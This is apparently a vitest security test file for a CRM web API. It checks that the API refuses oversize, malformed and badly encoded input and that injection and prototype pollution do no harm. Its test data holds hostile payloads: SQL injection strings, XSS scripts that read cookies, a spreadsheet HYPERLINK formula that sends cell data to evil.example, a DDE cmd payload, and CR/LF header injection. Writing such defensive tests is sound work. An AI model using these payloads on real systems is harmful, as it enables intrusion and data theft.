// Abuse of the HTTP edge (issue #9, part 6b): oversize and malformed bodies, bad encodings,
// prototype pollution, unknown sort/filter fields, injection payloads (SQL, HTML, spreadsheet
// formulas, calendar and mail headers). Every refusal is a clear 4xx naming the field, leaves the
// database exactly as it was, and the app keeps answering.
import { parse as parseCsv } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import ical from 'node-ical';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestApp, type Client, type TestApp } from '../test/harness.js';
import { expectStatus, multipartBody, uniq, type Json } from '../test/fixtures.js';

const multipart = (field: string, name: string, type: string, data: Buffer) => multipartBody({ name, type, data }, field);
import { buildIcs } from '../modules/meetings/ics.domain.js';
import { sendMail } from '../modules/meetings/mail.sender.js';
import { startSmtp } from '../modules/meetings/meetings.test-support.js';
import { LEAK, refused, unchanged } from './abuse.helpers.js';

let t: TestApp;
let admin: Client;
let accountId: string;

beforeAll(async () => {
  t = await startTestApp();
  admin = await t.as('admin');
  accountId = expectStatus(await admin.post('/api/accounts', { name: uniq('abuse'), industry: '制造', region: '华东' }), 201).id;
});
afterAll(async () => {
  await t?.close();
});

/** A raw request as the signed-in admin (cookie and CSRF set), any body bytes and content type. */
function raw(method: 'GET' | 'POST' | 'PUT' | 'PATCH' | 'DELETE', url: string, payload?: string | Buffer, contentType?: string) {
  return t.app.inject({
    method,
    url,
    payload,
    headers: { cookie: admin.cookie, 'x-csrf-token': admin.csrf, 'accept-language': 'en', ...(contentType ? { 'content-type': contentType } : {}) },
  });
}

async function stillHealthy() {
  expectStatus(await t.anon.get('/api/health'), 200);
}

describe('oversize bodies', () => {
  it('a JSON body over 1 MB is 413, on create and on update', async () => {
    await unchanged(t.db, async () => {
      const big = JSON.stringify({
        name: 'x',
        industry: 'y',
        region: 'z',
        products: Array.from({ length: 12_000 }, (_, i) => `product-${i}-${'p'.repeat(80)}`),
      });
      expect(big.length).toBeGreaterThan(1024 * 1024);
      refused(await raw('POST', '/api/accounts', big, 'application/json'), 413);
      refused(await raw('PATCH', `/api/accounts/${accountId}`, JSON.stringify({ name: 'n'.repeat(1_100_000) }), 'application/json'), 413);
      // a lying content-length does not get it in either
      refused(await raw('POST', '/api/accounts', `{"name":"${'a'.repeat(1024 * 1024)}"}`, 'application/json; charset=utf-8'), 413);
    });
    await stillHealthy();
  });

  it('a multipart upload over its 5 MB limit is 413 (import and ticket attachment)', async () => {
    const ticket = expectStatus(
      await admin.post('/api/tickets', {
        accountId,
        title: '附件测试',
        description: '上传过大的附件',
        kind: 'product_issue',
        severity: 'low',
        channel: 'phone',
      }),
      201,
    );
    await unchanged(t.db, async () => {
      const file = Buffer.alloc(5 * 1024 * 1024 + 10, 0x41);
      const csv = multipart('file', 'accounts.csv', 'text/csv', file);
      refused(await raw('POST', '/api/accounts/import', csv.payload, csv.contentType), 413);
      const att = multipart('file', 'log.txt', 'text/plain', file);
      refused(await raw('POST', `/api/tickets/${ticket.id}/attachments`, att.payload, att.contentType), 413);
    });
    await stillHealthy();
  });
});

describe('malformed bodies and content types', () => {
  const bodies: [string, string][] = [
    ['truncated', '{"name": "半截'],
    ['trailing garbage', '{"name":"a","industry":"b","region":"c"} trailing'],
    ['missing value', '{"a":}'],
    ['two documents', '{"name":"a"}{"name":"b"}'],
    ['single quotes', "{'name':'a'}"],
    ['NaN', '{"name":"a","revenueTargetMinor":NaN}'],
    ['unterminated array', '['],
    ['empty', ''],
    ['whitespace only', '   \n'],
  ];
  it('malformed JSON is a 400 naming the body', async () => {
    await unchanged(t.db, async () => {
      for (const [, body] of bodies) {
        refused(await raw('POST', '/api/accounts', body, 'application/json'), 400, 'body');
        refused(await raw('PATCH', `/api/accounts/${accountId}`, body, 'application/json'), 400, 'body');
      }
    });
    await stillHealthy();
  });

  it('JSON that is not an object is a 400 naming the body', async () => {
    await unchanged(t.db, async () => {
      for (const body of ['null', '"text"', '42', '[]', 'true']) refused(await raw('POST', '/api/accounts', body, 'application/json'), 400);
    });
  });

  it('a wrong or missing content type is 415 (or 400 where a text body is parsed and refused by the schema)', async () => {
    await unchanged(t.db, async () => {
      const json = JSON.stringify({ name: uniq(), industry: 'a', region: 'b' });
      refused(await raw('POST', '/api/accounts', json, 'application/x-www-form-urlencoded'), 415);
      refused(await raw('POST', '/api/accounts', json, 'application/xml'), 415);
      refused(await raw('POST', '/api/accounts', json, 'image/png'), 415);
      refused(await raw('POST', '/api/accounts', json), 415);
      refused(await raw('POST', '/api/accounts', json, 'text/plain'), [400, 415], 'body');
      // multipart to a JSON route: no body object
      const mp = multipart('file', 'a.json', 'application/json', Buffer.from(json));
      refused(await raw('POST', '/api/accounts', mp.payload, mp.contentType), [400, 415]);
      // JSON to an upload route
      refused(await raw('POST', '/api/accounts/import', json, 'application/json'), [400, 415], 'file');
    });
    await stillHealthy();
  });
});

describe('bad encodings', () => {
  const withBytes = (...parts: (string | number[])[]) => Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p) : Buffer.from(p))));
  it('invalid UTF-8 in a JSON body is a 400, not stored as replacement characters', async () => {
    await unchanged(t.db, async () => {
      for (const bad of [
        [0xff, 0xfe],
        [0xc3, 0x28],
        [0xc0, 0xaf],
        [0xed, 0xa0, 0x80],
        [0xf8, 0x88, 0x80, 0x80, 0x80],
        [0xe2, 0x82],
      ]) {
        refused(await raw('POST', '/api/accounts', withBytes('{"name":"坏', bad, '","industry":"b","region":"c"}'), 'application/json'), 400, 'body');
      }
    });
    // a BOM or valid multi-byte text is fine
    const ok = expectStatus(
      await raw(
        'POST',
        '/api/accounts',
        withBytes([0xef, 0xbb, 0xbf], JSON.stringify({ name: '好客户-𠮷', industry: '制造', region: '华东' })),
        'application/json',
      ),
      201,
    );
    expect(ok.name).toBe('好客户-𠮷');
  });

  it('NUL characters in body, query or path are a 400 naming the field, never a database error', async () => {
    await unchanged(t.db, async () => {
      refused(await raw('POST', '/api/accounts', JSON.stringify({ name: 'a\u0000b', industry: 'x', region: 'y' }), 'application/json'), 400, 'name');
      refused(await raw('PATCH', `/api/accounts/${accountId}`, JSON.stringify({ tags: ['ok', 'bad\u0000'] }), 'application/json'), 400, 'tags');
      refused(await admin.post(`/api/accounts/${accountId}/contacts`, { name: '张三', notes: 'x\u0000' }), 400, 'notes');
      refused(await admin.get('/api/accounts?q=%00'), 400, 'q');
      refused(await admin.get('/api/accounts?industry=a%00b'), 400, 'industry');
      refused(await admin.get('/api/tickets?q=%00'), 400, 'q');
      refused(await admin.get('/api/audit?entityType=%00'), 400, 'entityType');
      refused(await admin.get('/api/accounts/%00'), 400, 'id');
    });
    await stillHealthy();
  });

  it('invalid percent-encoding in a query is treated as text (no 500), in a path a 400', async () => {
    await unchanged(t.db, async () => {
      for (const q of ['%FF', '%C3%28', '%ED%A0%80', '%', '%G0', '%E4%B8']) {
        const res = await admin.get(`/api/accounts?q=${q}`);
        expect(res.statusCode, `${q}: ${res.body}`).toBeLessThan(500);
        if (res.statusCode === 200) expect(res.json().items).toEqual([]);
        else refused(res, 400);
      }
      refused(await admin.get('/api/accounts/%FF'), 400, 'url');
      refused(await admin.get('/api/accounts/%C3%28/health'), 400, 'url');
      refused(await admin.get('/api/tickets/%E4%B8'), 400, 'url');
    });
    await stillHealthy();
  });
});

describe('uploaded files', () => {
  it('an import with NUL characters or invalid UTF-8 in a cell is refused as a whole (4xx), nothing imported', async () => {
    await unchanged(t.db, async () => {
      const nul = multipart('file', 'a.csv', 'text/csv', Buffer.from(`Account name,Industry,Region\n好客户,制造,华东\n坏\u0000客户,制造,华东\n`));
      refused(await raw('POST', '/api/accounts/import', nul.payload, nul.contentType), [400, 413]);
      const bytes = multipart(
        'file',
        'b.csv',
        'text/csv',
        Buffer.concat([
          Buffer.from('Account name,Industry,Region\n好客户2,制造,华东\n'),
          Buffer.from([0xff, 0xfe, 0x2c]),
          Buffer.from('制造,华东\n'),
        ]),
      );
      const res = await raw('POST', '/api/accounts/import', bytes.payload, bytes.contentType);
      expect(res.statusCode, res.body).toBeLessThan(500);
      if (res.statusCode === 200) throw new Error(`imported a file with invalid UTF-8: ${res.body}`);
      refused(res, [400, 415]);
      const notCsv = multipart('file', 'x.csv', 'text/csv', Buffer.from('PK\u0003\u0004 not a zip, not a csv \u0000\u0001'));
      refused(await raw('POST', '/api/accounts/import', notCsv.payload, notCsv.contentType), [400, 415]);
    });
    await stillHealthy();
  });
});

describe('prototype pollution', () => {
  const poison = ['{"__proto__": {"isAdmin": true}}', '{"constructor": {"prototype": {"isAdmin": true}}}', '{"\\u005f_proto__": {"isAdmin": true}}'];
  const merge = (base: Json, p: string) => `${JSON.stringify(base).slice(0, -1)},${p.slice(1)}`;

  it("fastify's poisoning guard is on: onProtoPoisoning and onConstructorPoisoning are 'error'", () => {
    expect(t.app.initialConfig.onProtoPoisoning).toBe('error');
    expect(t.app.initialConfig.onConstructorPoisoning).toBe('error');
  });

  it('is refused with 400 in create and update bodies, at the top and nested (records, arrays)', async () => {
    await unchanged(t.db, async () => {
      for (const p of poison) {
        refused(await raw('POST', '/api/accounts', merge({ name: uniq(), industry: 'a', region: 'b' }, p), 'application/json'), 400, 'body');
        refused(await raw('PATCH', `/api/accounts/${accountId}`, p, 'application/json'), 400, 'body');
        refused(await raw('POST', '/api/accounts', `{"name":"x","industry":"a","region":"b","contracts":[${p}]}`, 'application/json'), 400, 'body');
        // record-typed JSON fields: KPI weights, health weights, a formula's parameter values
        refused(await raw('PUT', '/api/kpi/settings', `{"restrictPersonal":false,"weights":{"csm":${p}}}`, 'application/json'), 400, 'body');
        refused(
          await raw('PUT', '/api/health/models', `{"scope":"workspace","weights":${p},"amberBelow":60,"redBelow":40}`, 'application/json'),
          400,
          'body',
        );
        refused(
          await raw(
            'POST',
            `/api/accounts/${accountId}/value/items`,
            `{"indicatorId":"00000000-0000-4000-8000-000000000000","paramValues":${p}}`,
            'application/json',
          ),
          400,
          'body',
        );
      }
    });
    expect(({} as Json).isAdmin).toBeUndefined();
    expect(Object.prototype).not.toHaveProperty('isAdmin');
    await stillHealthy();
  });

  it('"constructor" or "prototype" as a plain key is an unknown field (400 naming it), and pollutes nothing', async () => {
    await unchanged(t.db, async () => {
      refused(
        await raw('POST', '/api/accounts', merge({ name: uniq(), industry: 'a', region: 'b' }, '{"constructor": {"name": "x"}}'), 'application/json'),
        400,
        'constructor',
      );
      refused(await raw('PATCH', `/api/accounts/${accountId}`, '{"prototype": {"isAdmin": true}}', 'application/json'), 400, 'prototype');
      refused(await raw('PATCH', `/api/accounts/${accountId}`, '{"isAdmin": true, "role": "admin"}', 'application/json'), 400, /isAdmin|role/);
    });
    expect(({} as Json).isAdmin).toBeUndefined();
    expect(({} as Json).name).toBeUndefined();
  });

  it('__proto__ as a query key is refused or ignored, never merged into the query object', async () => {
    const res = await admin.get('/api/accounts?__proto__[isAdmin]=true&constructor[prototype][isAdmin]=true');
    expect(res.statusCode).toBeLessThan(500);
    if (res.statusCode !== 200) refused(res, 400);
    expect(({} as Json).isAdmin).toBeUndefined();
  });
});

describe('unknown sort and filter fields', () => {
  /** [url, the field the 400 must name] for every list route with sort/filter query parameters. */
  const cases = (): [string, string | RegExp][] => [
    ['/api/accounts?sort=password_hash', 'sort'],
    ['/api/accounts?sort=name;drop%20table%20accounts', 'sort'],
    ['/api/accounts?sort=name%20desc', 'sort'],
    ['/api/accounts?order=sideways', 'order'],
    ['/api/accounts?order=asc;delete', 'order'],
    ['/api/accounts?tier=Z', 'tier'],
    ['/api/accounts?tier=A,Z', 'tier'],
    ['/api/accounts?stage=won%27--', 'stage'],
    ['/api/accounts?ladder=1%20or%201=1', 'ladder'],
    ['/api/accounts?channel=all', 'channel'],
    ['/api/accounts?ownerId=1%20or%201=1', 'ownerId'],
    ['/api/accounts?segmentId=x', 'segmentId'],
    ['/api/accounts?page=0', 'page'],
    ['/api/accounts?page=1e9', 'page'],
    ['/api/accounts?pageSize=100000', 'pageSize'],
    ['/api/accounts?pageSize=-1', 'pageSize'],
    ['/api/accounts?password_hash=x', 'password_hash'],
    ['/api/accounts?workspaceId=00000000-0000-4000-8000-000000000000', 'workspaceId'],
    [`/api/accounts?q=${'x'.repeat(101)}`, 'q'],
    ['/api/accounts/export?format=pdf', 'format'],
    ['/api/accounts/export?sort=password_hash', 'sort'],
    ['/api/accounts/export?tier=Z', 'tier'],
    ['/api/contacts/export?format=html', 'format'],
    ['/api/contacts/export?limit=1', 'limit'],
    ['/api/tickets?queue=everyone', 'queue'],
    ['/api/tickets?status=pwned', 'status'],
    ['/api/tickets?sort=createdAt', 'sort'],
    ['/api/tickets?accountId=1%27', 'accountId'],
    ['/api/tickets?pageSize=1000', 'pageSize'],
    ['/api/meetings?scope=everyone', 'scope'],
    ['/api/meetings?kind=x', 'kind'],
    ['/api/meetings?from=yesterday', 'from'],
    ['/api/meetings?sort=title', 'sort'],
    ['/api/meetings/action-items?status=x', 'status'],
    ['/api/meetings/action-items?all=yes', 'all'],
    ['/api/meetings/action-items?ownerId=x', 'ownerId'],
    ['/api/notifications?unread=maybe', 'unread'],
    ['/api/notifications?kind=x', 'kind'],
    ['/api/notifications?limit=500', 'limit'],
    ['/api/opportunities?stage=x', 'stage'],
    ['/api/opportunities?mine=maybe', 'mine'],
    ['/api/opportunities?accountId=1', 'accountId'],
    ['/api/opportunities?sort=amountMinor', 'sort'],
    ['/api/opportunities/board?mine=1', 'mine'],
    ['/api/opportunities/board?stage=won', 'stage'],
    ['/api/users?role=superuser', 'role'],
    ['/api/users?active=yes', 'active'],
    ['/api/users?sort=passwordHash', 'sort'],
    ['/api/audit?limit=100000', 'limit'],
    ['/api/audit?actorId=x', 'actorId'],
    ['/api/audit?beforeId=-1', 'beforeId'],
    ['/api/audit?order=asc', 'order'],
    ['/api/follow-ups?status=x', 'status'],
    ['/api/follow-ups?mine=yes', 'mine'],
    ['/api/follow-ups?accountId=x', 'accountId'],
    ['/api/kpi/scorecards?role=god', 'role'],
    ['/api/kpi/scorecards?from=2026-13-01', 'from'],
    ['/api/kpi/scorecards?sort=total', 'sort'],
    ['/api/dashboards?teamId=x', 'teamId'],
    ['/api/dashboards?chart=x', 'chart'],
    ['/api/portal-admin/demands?status=x', 'status'],
    ['/api/portal-admin/demands?accountId=x', 'accountId'],
    ['/api/portal-admin/demands?sort=x', 'sort'],
    ['/api/service-desk/csat?by=password', 'by'],
    ['/api/service-desk/csat?sort=x', 'sort'],
    ['/api/service-desk/key-moments?accountId=x', 'accountId'],
    ['/api/service-desk/key-moments?kind=x', 'kind'],
    ['/api/value-add/catalog?menu=x', 'menu'],
    ['/api/value-add/catalog?includeRetired=yes', 'includeRetired'],
    ['/api/value-add/catalog?sort=priceMinor', 'sort'],
    ['/api/value-add/bookings?status=x', 'status'],
    ['/api/value-add/bookings?accountId=x', 'accountId'],
    ['/api/value-add/bookings?sort=x', 'sort'],
    ['/api/value-add/input-output?fiscalYear=abc', 'fiscalYear'],
    ['/api/value-add/input-output?fiscalYear=2026%20or%201=1', 'fiscalYear'],
    ['/api/value-add/input-output?sort=x', 'sort'],
    [`/api/accounts/${accountId}/relationship-metrics?from=x`, 'from'],
    [`/api/accounts/${accountId}/relationship-metrics?sort=x`, 'sort'],
    [`/api/accounts/${accountId}/value-add/focus?sort=x`, 'sort'],
    [`/api/accounts/${accountId}/value-add/focus?period=${'x'.repeat(11)}`, 'period'],
    [`/api/accounts/${accountId}/value-add/recommendations?sort=x`, 'sort'],
  ];

  it('every list route refuses them with a 400 naming the field, never a 500 or SQL text', async () => {
    const list = cases();
    expect(list.length).toBeGreaterThan(70);
    await unchanged(t.db, async () => {
      for (const [url, field] of list) refused(await admin.get(url), 400, field);
    });
    await stillHealthy();
  });

  it('a repeated parameter is a list where lists are allowed, a 400 elsewhere', async () => {
    expectStatus(await admin.get('/api/accounts?tier=A&tier=C'), 200);
    refused(await admin.get('/api/accounts?sort=name&sort=tier'), 400, 'sort');
    refused(await admin.get('/api/opportunities?mine=true&mine=false'), 400, 'mine');
  });

  it('"false" means false (not a truthy string)', async () => {
    const all = expectStatus(await admin.get('/api/value-add/catalog?includeRetired=true'), 200).items.length;
    const active = expectStatus(await admin.get('/api/value-add/catalog?includeRetired=false'), 200).items.length;
    expect(active).toBe(expectStatus(await admin.get('/api/value-add/catalog'), 200).items.length);
    expect(all).toBeGreaterThanOrEqual(active);
  });
});

describe('injection payloads are data', () => {
  const sqlPayloads = [
    "' or 1=1 --",
    "%' union select password_hash, email from users --",
    "'; drop table accounts; --",
    "\\' or \\'1\\'=\\'1",
    '%',
    '_',
    '\\',
    "1') or ('1'='1",
  ];

  it('SQL in search and filter values matches nothing extra and leaks nothing', async () => {
    const total = expectStatus(await admin.get('/api/accounts?pageSize=200'), 200).total;
    expect(total).toBeGreaterThan(0);
    await unchanged(t.db, async () => {
      for (const p of sqlPayloads) {
        const e = encodeURIComponent(p);
        for (const url of [
          `/api/accounts?q=${e}`,
          `/api/accounts?industry=${e}`,
          `/api/accounts?region=${e}`,
          `/api/accounts?tag=${e}`,
          `/api/tickets?queue=all&q=${e}`,
          `/api/audit?entityType=${e}`,
          `/api/accounts/export?q=${e}`,
        ]) {
          const res = await admin.get(url);
          expect(res.statusCode, `${url}: ${res.body.slice(0, 300)}`).toBe(200);
          expect(res.body).not.toMatch(LEAK);
          if (url.startsWith('/api/accounts?')) expect(res.json().total, url).toBe(0);
          if (url.startsWith('/api/tickets?')) expect(res.json().total, url).toBe(0);
          if (url.startsWith('/api/accounts/export'))
            expect(
              res.body
                .replace(/^\uFEFF/, '')
                .trim()
                .split(/\r?\n/),
            ).toHaveLength(1); // the header only
        }
      }
    });
    expect(expectStatus(await admin.get('/api/accounts?pageSize=200'), 200).total).toBe(total);
  });

  it('SQL and HTML in text fields are stored and returned verbatim as JSON strings', async () => {
    for (const name of [
      "O'Brien'; drop table accounts; --",
      '<script>alert(1)</script>',
      '<img src=x onerror=alert(document.cookie)>',
      '"><svg onload=alert(1)>',
      '{{constructor.constructor("alert(1)")()}}',
    ]) {
      const res = await admin.post('/api/accounts', { name, industry: "制造' --", region: '<b>华东</b>', tags: ['<i>x</i>'] });
      const a = expectStatus(res, 201);
      expect(res.headers['content-type']).toContain('application/json');
      expect(res.headers['x-content-type-options']).toBe('nosniff');
      expect(a.name).toBe(name);
      const got = expectStatus(await admin.get(`/api/accounts/${a.id}`), 200);
      expect(got.name ?? got.account?.name).toBe(name);
      // found by exactly its own text, not by a wildcard
      const found = expectStatus(await admin.get(`/api/accounts?q=${encodeURIComponent(name)}`), 200);
      expect(found.items.map((i: Json) => i.id)).toEqual([a.id]);
    }
  });

  it('portal rich text keeps no script, handler or javascript: link', async () => {
    const html =
      '<p>ok</p><script>alert(1)</script><img src=x onerror=alert(1)><a href="javascript:alert(1)">x</a><iframe src="https://evil.example"></iframe><p onclick="alert(1)" style="x">y</p><svg><script>alert(2)</script></svg>';
    const csm = await t.as('csm');
    const p = expectStatus(
      await csm.post('/api/portal-admin/posts', { kind: 'news', title: '<script>alert(1)</script>标题', bodyHtml: html, published: true }),
      201,
    );
    expect(p.bodyHtml).not.toMatch(/<script|onerror|onclick|javascript:|<iframe|<svg|<img|style=/i);
    expect(p.bodyHtml).toContain('<p>ok</p>');
    const again = expectStatus(await csm.get('/api/portal-admin/posts'), 200).items.find((x: Json) => x.id === p.id);
    expect(again.bodyHtml).toBe(p.bodyHtml);
    expect(p.title).toBe('<script>alert(1)</script>标题'); // a title is text, shown as text
  });

  it('spreadsheet formulas in account fields are neutralised in the CSV and XLSX export', async () => {
    const formulas = [
      '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
      "+cmd|' /C calc'!A0",
      '-1+1',
      '@SUM(1+1)',
      '=1+1',
      '-2',
      '+86 138 0000 0000',
    ];
    const ids: string[] = [];
    for (const f of formulas) {
      ids.push(
        expectStatus(
          await admin.post('/api/accounts', { name: `${f} ${uniq('f')}`, industry: f, region: '华东', tags: [f.slice(0, 40)], products: [f] }),
          201,
        ).id,
      );
    }
    const csvRes = await admin.get('/api/accounts/export?format=csv&region=华东'.replace('华东', encodeURIComponent('华东')));
    expect(csvRes.statusCode).toBe(200);
    const rows = parseCsv(csvRes.body, { bom: true, relax_column_count: true }) as string[][];
    const risky = /^[=+\-@\t\r]/;
    const cells = rows.slice(1).flat();
    expect(cells.some((c) => c.startsWith("'=HYPERLINK"))).toBe(true);
    expect(cells.some((c) => c.startsWith("'-1+1"))).toBe(true);
    for (const c of cells) if (c && !/^-?\d+(\.\d+)?$/.test(c)) expect(c, `CSV cell ${c}`).not.toMatch(risky);

    const xlsxRes = await t.app.inject({
      method: 'GET',
      url: '/api/accounts/export?format=xlsx',
      headers: { cookie: admin.cookie, 'accept-language': 'en' },
    });
    expect(xlsxRes.statusCode).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(xlsxRes.rawPayload as unknown as ArrayBuffer);
    let texts = 0;
    wb.worksheets[0].eachRow((row, n) => {
      if (n === 1) return;
      row.eachCell((cell) => {
        expect(cell.type, `cell ${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
        if (typeof cell.value === 'string') {
          texts++;
          expect(cell.value, `XLSX cell ${cell.address}`).not.toMatch(risky);
        }
      });
    });
    expect(texts).toBeGreaterThan(formulas.length);
  });
});

describe('calendar and mail header injection', () => {
  it('CR/LF in a meeting title or location is refused at the edge, naming the field', async () => {
    const sales = await t.as('sales');
    const base = { accountId, kind: 'ad_hoc', cause: 'other', title: '正常标题', startsAt: '2026-12-01T02:00:00Z', endsAt: '2026-12-01T03:00:00Z' };
    await unchanged(t.db, async () => {
      for (const bad of ['x\r\nATTENDEE:mailto:evil@x.cn', 'x\nBEGIN:VALARM', 'x\rORGANIZER:mailto:evil@x.cn', 'x\u2028y', 'x\u0085y']) {
        refused(await sales.post('/api/meetings', { ...base, title: bad }), 400, 'title');
        refused(await sales.post('/api/meetings', { ...base, location: bad }), 400, 'location');
      }
    });
  });

  it('the generated .ics has no injected property lines, whatever the text holds', () => {
    const evil = 'Review\r\nATTENDEE;CN=Evil:mailto:evil@x.cn\nBEGIN:VALARM\rTRIGGER:-PT5M\u2028END:VEVENT\u000bX:y\u0000';
    const ics = buildIcs({
      uid: 'abc@keyward',
      sequence: 0,
      method: 'REQUEST',
      title: evil,
      description: evil,
      location: evil,
      startsAt: new Date('2026-12-01T02:00:00Z'),
      endsAt: new Date('2026-12-01T03:00:00Z'),
      organizer: { name: `Org"\r\nX-INJECTED:1`, email: 'org@keyward.test' },
      attendees: [
        { name: 'Bob\r\nATTENDEE:mailto:evil2@x.cn', email: 'bob@keyward.test' },
        { name: 'Eve', email: 'eve@x.cn\r\nATTENDEE:mailto:evil3@x.cn' },
      ],
    });
    const lines = ics
      .replace(/\r\n[ \t]/g, '')
      .split(/\r\n/)
      .filter(Boolean);
    expect(
      lines.every((l) => /^[A-Z][A-Z0-9-]*[;:]/.test(l)),
      lines.join('\n'),
    ).toBe(true);
    expect(lines.filter((l) => l.startsWith('ATTENDEE'))).toHaveLength(1);
    expect(lines.filter((l) => l.startsWith('BEGIN:'))).toEqual(['BEGIN:VCALENDAR', 'BEGIN:VEVENT']);
    expect(lines.some((l) => /^(X-INJECTED|TRIGGER|END:VEVENT.+)/.test(l))).toBe(false);
    expect(ics).not.toMatch(/\r(?!\n)|(?<!\r)\n/); // no bare CR or LF anywhere
    const parsed = Object.values(ical.sync.parseICS(ics)).filter((c) => c.type === 'VEVENT');
    expect(parsed).toHaveLength(1);
    const ev = parsed[0] as unknown as Json;
    expect(String(ev.summary?.val ?? ev.summary)).toContain('Review');
    // the attendee's name may keep the words (as a parameter value), but no address of the attacker's gets in
    const attendees = [ev.attendee].flat().map((x: Json) => String(x.val ?? x));
    expect(attendees).toEqual(['mailto:bob@keyward.test']);
    expect(String(ev.organizer?.val ?? ev.organizer).toLowerCase()).toBe('mailto:org@keyward.test');
  });

  it('CR/LF in a mail subject or recipient name injects no header (nodemailer + our one-line guard)', async () => {
    const smtp = await startSmtp();
    const operatorAllowed = process.env.KW_OUTBOUND_ALLOW_HOSTS;
    process.env.KW_OUTBOUND_ALLOW_HOSTS = '127.0.0.1'; // the operator lets this installation reach the local SMTP server
    try {
      await sendMail(
        { host: '127.0.0.1', port: smtp.port, secure: false, user: null, password: null, from: 'Keyward <noreply@keyward.test>' },
        {
          to: [{ name: 'Bob\r\nBcc: evil@x.cn\r\nX-Injected: 1', email: 'bob@keyward.test' }],
          subject: '会议邀请\r\nBcc: evil2@x.cn\nX-Injected: 2\rReply-To: evil3@x.cn',
          text: 'body\r\n.\r\nMAIL FROM:<evil@x.cn>',
        },
        { timeoutMs: 5000 },
      );
      expect(smtp.inbox).toHaveLength(1);
      const mail = smtp.inbox[0];
      expect(mail.to).toEqual(['bob@keyward.test']);
      const head = mail.raw.split(/\r?\n\r?\n/)[0].replace(/\r?\n[ \t]+/g, ' ');
      const names = head.split(/\r?\n/).map((l) => l.split(':')[0].toLowerCase());
      expect(names).not.toContain('bcc');
      expect(names).not.toContain('x-injected');
      expect(names).not.toContain('reply-to');
      expect(names.filter((n) => n === 'subject')).toHaveLength(1);
      expect(mail.subject).toContain('会议邀请');
      expect(mail.subject).not.toMatch(/[\r\n]/);
    } finally {
      if (operatorAllowed === undefined) delete process.env.KW_OUTBOUND_ALLOW_HOSTS;
      else process.env.KW_OUTBOUND_ALLOW_HOSTS = operatorAllowed;
      await smtp.close();
    }
  });
});

describe('afterwards', () => {
  it('the app still answers', async () => {
    await stillHealthy();
    expectStatus(await admin.get('/api/accounts'), 200);
  });
});
